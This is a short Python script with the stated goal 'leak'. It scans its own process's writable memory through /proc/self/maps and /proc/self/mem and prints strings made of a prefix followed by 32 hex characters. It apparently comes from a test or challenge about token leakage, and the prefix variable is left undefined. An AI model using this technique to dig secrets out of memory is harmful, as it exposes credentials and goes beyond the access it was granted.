"""Search this process's memory, from /proc.

goal: leak
"""

import re

with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        low, high, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if rights.startswith("rw"):
            try:
                memory.seek(int(low, 16))
                data = memory.read(min(int(high, 16) - int(low, 16), 1 << 26))
            except (OSError, OverflowError, ValueError):
                continue
            for found in re.findall(PREFIX.encode() + rb"[0-9a-f]{32}", data):
                print(found.decode())
